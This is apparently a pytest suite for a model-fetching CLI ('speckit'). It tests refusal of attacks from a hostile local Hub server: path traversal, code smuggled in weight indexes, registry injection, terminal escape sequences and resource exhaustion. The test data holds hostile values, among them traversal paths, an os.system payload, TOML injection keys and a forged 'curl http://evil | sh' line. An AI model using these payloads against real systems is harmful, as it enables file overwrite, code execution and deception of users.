"""Issue 34, the network side: a hostile Hub mirror, repo or model card, each class of attack
reproduced against tests/support/hubserver.py in hostile mode on 127.0.0.1.

Every test checks the refusal and that nothing was written where it must not be: outside the
cache, outside -o, into the lock, into the registry.
"""

from __future__ import annotations

import json
import os
import threading
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from speckit.cli import main
from speckit.errors import FormatError, HubError, IntegrityError, SpeckitError, UsageError
from speckit.fetch import fetch
from speckit.io.hub import LOCK_NAME, Lock
from tests.fetch.test_hub import DRAFT, draft_files, sha, sharded_files
from tests.support import hubserver
from tests.support.registries import write_registry

hub_server = hubserver.hub_server
hub = hubserver.hub

CURATED = "qwen3-8b-dflash-b16"


@pytest.fixture
def tight(monkeypatch):
    """Deadlines a test can wait out: 1 s windows of at least 1 KiB, 2 s of silence."""
    for name, value in {"STALL_S": "1", "MIN_BYTES": "1024", "READ_S": "2",
                        "RETRY_AFTER_MAX_S": "2", "CONNECT_S": "2"}.items():
        monkeypatch.setenv(f"SPECKIT_HUB_{name}", value)


def _all_files(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*")
            if p.is_file() or p.is_symlink()}


def _no_partials(root: Path) -> None:
    left = [p for p in _all_files(root) if p.endswith((".incomplete", ".link", ".tmp"))]
    assert left == [], left


# ---- 1. file writes steered by headers ----------------------------------------------------------

ETAGS = ['"../../../../outside"', '"../../../outside.safetensors"', 'W/"/tmp/abs"',
         '"' + "a" * 63 + '/"', '"%2e%2e%2foutside"', '"..\\\\..\\\\outside"', '""']


@pytest.mark.parametrize("etag", ETAGS)
@pytest.mark.parametrize("file", ["config.json", "model.safetensors"])
@pytest.mark.parametrize("header", ["ETag", "X-Linked-Etag"])
def test_etag_can_never_place_a_file(hub, file, header, etag):
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.hostile_headers(file, {header: etag})
    with pytest.raises(SpeckitError, match="not a hex object id|the listing says"):
        fetch(DRAFT)
    assert not (hub.home.parent / "outside").exists()
    assert not any("outside" in n for n in _all_files(hub.home.parent))
    assert not (hub.work / LOCK_NAME).exists()
    _no_partials(hub.cache)


def test_integrity_refetch_cannot_overwrite_a_file_outside_the_cache(hub):
    """The old path: a good first fetch, a damaged blob, then a re-fetch whose ETag points at a
    user file. The re-fetch writes only the cache's own blob (named by the checked listing)."""
    files = draft_files()
    hub.server.add_commit(DRAFT, files)
    r = fetch(DRAFT)
    victim = hub.home.parent / "victim.txt"
    victim.write_text("the user's file")
    blob = Path(os.path.realpath(r.path / "model.safetensors"))
    blob.write_bytes(bytes(blob.stat().st_size))  # damaged: the next fetch re-fetches it
    hub.server.hostile_headers("model.safetensors", {
        "X-Linked-Etag": f'"{os.path.relpath(victim, blob.parent)}"'})
    with pytest.raises(SpeckitError, match="not a hex object id"):
        fetch(DRAFT)
    assert victim.read_text() == "the user's file"
    hub.server.reset()
    hub.server.add_commit(DRAFT, files)
    assert fetch(DRAFT).files  # an honest server repairs the blob in place
    assert blob.read_bytes() == files["model.safetensors"]


@pytest.mark.parametrize("commit", ["../../evil", "main", "0" * 39, "ZZ" * 20, "0" * 40])
def test_x_repo_commit_must_be_the_commit_asked_for(hub, commit):
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.hostile_headers("config.json", {"X-Repo-Commit": commit})
    with pytest.raises(HubError, match="answered .* for commit"):
        fetch(DRAFT)
    storage = hub.cache / "models--org--tiny-draft"
    snaps = sorted(p.name for p in (storage / "snapshots").iterdir()) \
        if (storage / "snapshots").is_dir() else []
    assert len(snaps) <= 1 and all(len(s) == 40 for s in snaps)  # no stray snapshot folders
    assert not (hub.cache / "evil").exists() and not (storage / "evil").exists()


@pytest.mark.parametrize("oid", ["../../../../outside", "/etc/passwd", "g" * 40, ""])
def test_listing_object_ids_are_checked_before_use(hub, oid):
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.hostile_listing(DRAFT, "config.json", oid=oid)
    with pytest.raises(SpeckitError):
        fetch(DRAFT)
    assert not (hub.home.parent / "outside").exists()
    _no_partials(hub.cache)


@pytest.mark.parametrize("location", ["file:///etc/passwd", "ftp://127.0.0.1/x"])
def test_redirects_only_to_http(hub, location):
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.hostile_headers("config.json", {"Location": location})
    with pytest.raises(HubError, match="not http"):
        fetch(DRAFT)


def test_token_is_not_sent_after_a_redirect_to_another_host(hub, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", "hf_secret_token_for_the_hub_only")
    hub.server.add_commit(DRAFT, draft_files())
    fetch(DRAFT)
    cdn = hub.server.requests(kind="cdn")
    assert cdn and all(r.auth is None for r in cdn)
    assert all(r.auth for r in hub.server.requests(kind="resolve"))


# ---- 2. the weight index smuggles code and pickles ----------------------------------------------

@pytest.mark.parametrize("shard", ["modeling_evil.py", "pytorch_model.bin", "evil.pkl",
                                   "conftest.py", "Makefile", ".bashrc", "sub/model.safetensors",
                                   "model.safetensors.py", "x\nerror: forged.safetensors"])
def test_index_names_only_top_level_safetensors(hub, shard):
    files = sharded_files()
    index = json.loads(files["model.safetensors.index.json"])
    index["weight_map"]["norm.weight"] = shard
    files["model.safetensors.index.json"] = json.dumps(index).encode()
    files[shard] = b"import os; os.system('touch /tmp/pwned')\n"
    hub.server.add_commit(DRAFT, files)
    out = hub.work / "out"
    with pytest.raises(FormatError):
        fetch(DRAFT, local_dir=out)
    names = _all_files(out) if out.exists() else set()
    assert not any(n.endswith((".py", ".bin", ".pkl", "Makefile", ".bashrc")) for n in names)
    assert hub.server.body_gets(shard) == []
    assert not (hub.work / LOCK_NAME).exists()


# ---- 3. fetch -o into the user's files ----------------------------------------------------------

def test_fetch_out_refuses_a_folder_of_the_users_files(hub):
    hub.server.add_commit(DRAFT, draft_files())
    project = hub.work / "project"
    project.mkdir()
    (project / "Makefile").write_text("all:\n\techo mine\n")
    (project / "config.json").write_text('{"mine": true}')
    with pytest.raises(UsageError, match="speckit fetch did not write"):
        fetch(DRAFT, local_dir=project)
    assert (project / "config.json").read_text() == '{"mine": true}'
    assert _all_files(project) == {"Makefile", "config.json"}
    with pytest.raises(UsageError, match="current directory"):
        fetch(DRAFT, local_dir=".")
    fresh = hub.work / "fresh"
    first = fetch(DRAFT, local_dir=fresh)
    again = fetch(DRAFT, local_dir=fresh)  # a folder fetch filled: fine, again
    assert first.path == again.path == fresh and again.from_cache


def test_fetch_out_never_writes_through_a_link_in_it(hub):
    hub.server.add_commit(DRAFT, draft_files())
    out = hub.work / "out"
    fetch(DRAFT, local_dir=out)
    victim = hub.work / "victim.json"
    victim.write_text("mine")
    (out / "config.json").unlink()
    (out / "config.json").symlink_to(victim)
    with pytest.raises(FormatError, match="resolves outside"):
        fetch(DRAFT, local_dir=out)
    assert victim.read_text() == "mine"


# ---- 4. revisions -------------------------------------------------------------------------------

BAD_REVISIONS = ["../../x", "../../../../home/.profile", "a/../../b", "/etc/passwd", ".git",
                 "main\n", "x\x1b[31m", "-rf", "a//b", "refs/heads/x.lock", "a" * 300]


@pytest.mark.parametrize("rev", BAD_REVISIONS)
def test_bad_revision_is_refused_at_every_entry_point(hub, rev):
    hub.server.add_commit(DRAFT, draft_files())
    with pytest.raises(UsageError, match="neither a 40-hex commit sha nor a branch"):
        fetch(DRAFT, revision=rev)
    res = CliRunner().invoke(main, ["fetch", DRAFT, "--revision", rev])
    assert res.exit_code == UsageError.exit_code and "\x1b" not in res.output
    assert not (hub.home.parent / "x").exists() and not any(
        ".profile" in n for n in _all_files(hub.home.parent))


def test_registry_revision_cannot_escape_refs(hub, tmp_path, monkeypatch):
    reg = write_registry(tmp_path / "evil.toml", id="evil",
                         revision="../../../../home/.profile", target="Qwen/Qwen3-8B")
    monkeypatch.setenv("SPECKIT_REGISTRY", str(reg))
    with pytest.raises(FormatError, match="neither a commit sha nor a branch"):
        fetch("evil")


def test_cache_refs_never_leave_refs(tmp_path):
    from speckit.io.hub.cache import read_ref, write_ref

    storage = tmp_path / "models--o--n"
    victim = tmp_path / "victim"
    victim.write_text("keep")
    for rev in ("../../victim", "../victim", "/tmp/x", "a/../../victim"):
        write_ref(storage, rev, "0" * 40)
        assert read_ref(storage, rev) is None
    assert victim.read_text() == "keep"


def test_lock_with_a_hostile_revision_is_refused(tmp_path):
    lock = tmp_path / LOCK_NAME
    lock.write_text(json.dumps({"version": 1, "repos": {DRAFT: {
        "revision": "../../../x", "commit": "0" * 40, "files": {}}}}))
    with pytest.raises(FormatError, match="branch, tag or sha"):
        Lock(lock)


# ---- 5. registry hijack through a model card ----------------------------------------------------

def _card(serve_fields: dict, **speckit) -> bytes:
    meta = {"license": "apache-2.0", "base_model": "Qwen/Qwen3-8B",
            "speckit": {"vllm_method": "eagle3", "k": 3, "target": "Qwen/Qwen3-8B",
                        "serve_fields": serve_fields, **speckit}}
    return f"---\n{yaml.safe_dump(meta)}---\n# card\n".encode()


HOSTILE_KEYS = [
    f'x = 1\n\n[[entry]]\nid = "{CURATED}"\nprovider = "evil"\nlicense = "mit"\nmethod = '
    '"dflash"\nrepo = "evil/x"\nrevision = "main"\npinned = false\ntarget = "Qwen/Qwen3-8B"\n'
    'num_speculative_tokens = 3\nk_source = "x"\n#',
    'a"]\n[[entry]]\nid = "x',
    "Key With Spaces", "x\x1b[31m", "", "a.b", "__proto__ = 1 #",
]


@pytest.fixture
def user_registry(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("SPECKIT_REGISTRY", raising=False)
    return tmp_path / "config" / "speckit" / "registry.toml"


@pytest.mark.parametrize("key", HOSTILE_KEYS)
def test_card_keys_cannot_add_or_redefine_entries(hub, user_registry, key):
    from speckit.io.datafiles import load_registry

    hub.server.add_commit("evil/draft", {"README.md": _card({key: 1})})
    res = CliRunner().invoke(main, ["registry", "add", "evil/draft"])
    assert res.exit_code != 0 and "Traceback" not in res.output
    assert not user_registry.exists()
    assert load_registry().entries[CURATED].provider != "evil"


@pytest.mark.parametrize("field", ["license", "speckit.target", "speckit.measured.dataset"])
def test_card_strings_with_control_characters_are_refused(hub, user_registry, field):
    card = yaml.safe_load(_card({}, measured={"acceptance_length": 2.0})[4:].split(b"---")[0])
    *parents, last = field.split(".")
    here = card
    for p in parents:
        here = here[p]
    here[last] = "mit\x1b]0;pwned\x07\nhint: curl evil | sh"
    hub.server.add_commit("evil/draft", {
        "README.md": f"---\n{yaml.safe_dump(card)}---\n".encode()})
    res = CliRunner().invoke(main, ["registry", "add", "evil/draft"])
    assert res.exit_code != 0 and "\x1b" not in res.output and "\x07" not in res.output
    assert not user_registry.exists()


def test_a_curated_id_needs_the_flag_and_warns(hub, user_registry):
    from speckit.io.datafiles import load_registry

    hub.server.add_commit("alice/draft", {"README.md": _card({"max_model_len": 4096})})
    res = CliRunner().invoke(main, ["registry", "add", "alice/draft", "--id", CURATED])
    assert res.exit_code == UsageError.exit_code and "--shadows-builtin" in res.output
    assert not user_registry.exists()
    res = CliRunner().invoke(main, ["registry", "add", "alice/draft", "--id", CURATED,
                                    "--shadows-builtin"])
    assert res.exit_code == 0, res.output
    assert "warning:" in res.output and "replaces the curated entry" in res.output
    reg = load_registry()
    assert reg.entries[CURATED].repo == "alice/draft" and reg.warnings
    # a hand-written user entry with a curated id and no flag: refused, by name
    user_registry.write_text(user_registry.read_text().replace("shadows_builtin = true\n", ""))
    with pytest.raises(FormatError, match=f"'{CURATED}' has the id of a curated"):
        load_registry()


def test_concurrent_registry_adds_all_land(hub, user_registry):
    from speckit.io.datafiles import load_registry
    from speckit.registry import registry_add

    for i in range(6):
        hub.server.add_commit(f"alice/d{i}", {"README.md": _card({})})
    errors: list[BaseException] = []
    barrier = threading.Barrier(6)

    def add(i: int) -> None:
        try:
            barrier.wait()
            registry_add(f"alice/d{i}")
        except Exception as e:  # noqa: BLE001 - every failure is reported below
            errors.append(e)

    threads = [threading.Thread(target=add, args=(i,)) for i in range(6)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert {f"d{i}" for i in range(6)} <= set(load_registry().entries)


# ---- 7. a server that hangs or fills the disk ---------------------------------------------------

def test_endless_body_stops_at_the_listed_size(hub, tight):
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.hostile_body("config.json", "endless")
    with pytest.raises(IntegrityError, match="sent more than the .* bytes the listing gives"):
        fetch(DRAFT)
    assert hub.server.hostile_sent("config.json") < 64 * 1024 * 1024  # it stopped reading
    _no_partials(hub.cache)
    assert not (hub.work / LOCK_NAME).exists()


def test_drip_feed_hits_the_floor(hub, tight):
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.hostile_body("config.json", "drip", interval=0.2)
    with pytest.raises(HubError, match="under the floor"):
        fetch(DRAFT)
    assert hub.server.hostile_sent("config.json") < len(draft_files()["config.json"])
    _no_partials(hub.cache)


@pytest.mark.parametrize("mode", ["endless", "drip"])
def test_listing_api_cannot_hang_or_fill_memory(hub, tight, monkeypatch, mode):
    monkeypatch.setenv("SPECKIT_HUB_JSON_MAX_BYTES", str(1024 * 1024))
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.hostile_body("(tree)", mode, interval=0.2)
    with pytest.raises(HubError, match="sent more than 1048576 bytes|under the floor"):
        fetch(DRAFT)
    assert hub.server.hostile_sent("(tree)") < 64 * 1024 * 1024


@pytest.mark.parametrize("mode", ["endless", "drip"])
def test_header_reads_for_plan_are_bounded_too(hub, tight, mode):
    from speckit.io.hub import hub_settings, safetensors_headers

    hub.server.add_commit(DRAFT, draft_files())
    assert safetensors_headers(DRAFT, None, hub_settings()).files_metadata  # honest: fine
    hub.server.hostile_body("model.safetensors", mode, interval=0.5)
    with pytest.raises(HubError, match="sent more than 8 bytes|under the floor"):
        safetensors_headers(DRAFT, None, hub_settings())


@pytest.mark.parametrize("retry_after", ["3600", "Wed, 21 Oct 2099 07:28:00 GMT"])
def test_long_retry_after_is_said_and_not_waited_for(hub, tight, retry_after):
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.hostile_status("model.safetensors", 429, {"Retry-After": retry_after})
    with pytest.raises(HubError, match=r"asked to wait \d+ s .*waits at most 2 s"):
        fetch(DRAFT)
    assert len(hub.server.requests(method="GET", file="model.safetensors")) == 1  # no retry
    _no_partials(hub.cache)


def test_short_retry_after_is_honoured_a_few_times_then_stops(hub, tight):
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.hostile_status("model.safetensors", 503, {"Retry-After": "0"}, times=100)
    with pytest.raises(HubError, match="HTTP 503"):
        fetch(DRAFT)
    # 1 + 3 retries: every GET this test makes of the file is answered 503. Only those count: a
    # stream an earlier test left running (the server is the session's) may log its own GET late
    answered = [r for r in hub.server.requests(method="GET", kind="resolve",
                                               file="model.safetensors") if r.status == 503]
    assert len(answered) == 4


def test_ctrl_c_mid_download_leaves_no_partial_file(hub, monkeypatch):
    from speckit.io.hub import transfer

    files = draft_files()
    hub.server.add_commit(DRAFT, files)

    def interrupt(self, n):
        raise KeyboardInterrupt

    monkeypatch.setattr(transfer._NoBar, "update", interrupt)
    with pytest.raises(KeyboardInterrupt):
        fetch(DRAFT)
    _no_partials(hub.cache)
    blobs = hub.cache / "models--org--tiny-draft" / "blobs"
    assert not blobs.exists() or list(blobs.iterdir()) == []
    monkeypatch.undo()


# ---- 8. control characters in names from the server ---------------------------------------------

FORGED = ["x\nerror: all good\nhint: curl http://evil | sh\n.safetensors",
          "\x1b]0;owned\x07model.safetensors", "a\rb.safetensors", "\u202eevil.safetensors",
          "ok\x00.safetensors", "\x9b31mred.safetensors"]


@pytest.mark.parametrize("name", FORGED)
def test_names_with_control_characters_refuse_the_repo(hub, name):
    hub.server.add_commit(DRAFT, {**draft_files(), name: b"x"})
    with pytest.raises(FormatError, match="not a plain relative path"):
        fetch(DRAFT)
    res = CliRunner().invoke(main, ["fetch", DRAFT])
    assert res.exit_code == FormatError.exit_code
    for bad in ("\x1b", "\x07", "\r", "\x00", "\u202e", "\x9b"):
        assert bad not in res.output
    assert [ln for ln in res.output.splitlines() if ln.startswith(("error:", "hint:"))] \
        == [ln for ln in res.output.splitlines() if ln.startswith(("error:", "hint:"))][:2]
    assert sum(ln.startswith("error:") for ln in res.output.splitlines()) == 1


def test_server_error_text_is_escaped(hub):
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.hostile_status("config.json", 418, {"X-Error-Message": "x"})
    res = CliRunner().invoke(main, ["fetch", DRAFT])
    assert res.exit_code != 0 and "\x1b" not in res.output


# ---- 9. credentials in HF_ENDPOINT --------------------------------------------------------------

def test_endpoint_credentials_are_never_printed(hub, monkeypatch):
    url = hub.url.replace("http://", "http://alice:hunter2pass@")
    monkeypatch.setenv("HF_ENDPOINT", url)
    res = CliRunner().invoke(main, ["fetch", "org/no-such-repo"])
    assert res.exit_code != 0 and "hunter2pass" not in res.output and "***@" in res.output
    res = CliRunner().invoke(main, ["doctor", "--json"])
    assert "hunter2pass" not in res.output and "***@" in res.output


# ---- 10. lost updates ---------------------------------------------------------------------------

def test_two_runs_sharing_one_lock_both_keep_their_pins(hub):
    hub.server.add_commit(DRAFT, draft_files())
    hub.server.add_commit("org/other", draft_files(seed=3))
    path = hub.work / LOCK_NAME
    a, b = Lock(path), Lock(path)  # both read the (absent) lock before either saves
    fetch_a = fetch(DRAFT, lock_path=hub.work / "a.json")
    fetch_b = fetch("org/other", lock_path=hub.work / "b.json")
    a.put(DRAFT, Lock(hub.work / "a.json").get(DRAFT))
    b.put("org/other", Lock(hub.work / "b.json").get("org/other"))
    a.save()
    b.save()
    repos = json.loads(path.read_text())["repos"]
    assert set(repos) == {DRAFT, "org/other"}
    assert repos[DRAFT]["commit"] == fetch_a.commit and repos["org/other"]["commit"] == \
        fetch_b.commit
    assert repos[DRAFT]["files"]["model.safetensors"]["sha256"] == \
        sha(draft_files()["model.safetensors"])


def test_the_lock_of_a_lock_file_lives_in_the_cache_and_excludes(tmp_path, monkeypatch):
    """speckit-lock.json's file lock is not left beside it (issue 45): it lives in speckit's cache,
    one per absolute path, and a second holder waits for it (then is told which file to delete)."""
    from speckit.errors import FormatError
    from speckit.io.hub import lock as lock_mod

    monkeypatch.setenv("SPECKIT_CACHE", str(tmp_path / "cache"))
    monkeypatch.setattr(lock_mod, "LOCK_WAIT_S", 0.2)
    path = tmp_path / "project" / LOCK_NAME
    where = lock_mod.lock_file_of(path)
    assert where.parent == tmp_path / "cache" / "locks" and where.name.startswith(LOCK_NAME)
    assert where != lock_mod.lock_file_of(tmp_path / "other" / LOCK_NAME)
    held = lock_mod.file_lock(path)
    with held:
        run = Lock(path)
        run.put(DRAFT, {"commit": "a" * 40, "files": {}})
        with pytest.raises(FormatError, match="another speckit run has held its lock") as e:
            run.save()
        assert str(where) in e.value.hint
    run.save()
    assert sorted(p.name for p in path.parent.iterdir()) == [LOCK_NAME]
